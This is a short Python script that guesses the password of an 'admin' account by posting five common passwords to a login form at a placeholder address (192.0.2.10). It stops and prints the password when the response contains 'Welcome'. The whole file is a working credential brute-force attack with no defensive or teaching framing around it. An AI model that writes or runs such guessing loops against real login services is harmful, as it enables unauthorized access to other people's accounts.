import requests

words = ["123456", "letmein", "qwerty", "dragon", "monkey"]
for word in words:
    answer = requests.post("http://192.0.2.10/login", data={"username": "admin", "password": word})
    if "Welcome" in answer.text:
        print("found", word)
        break
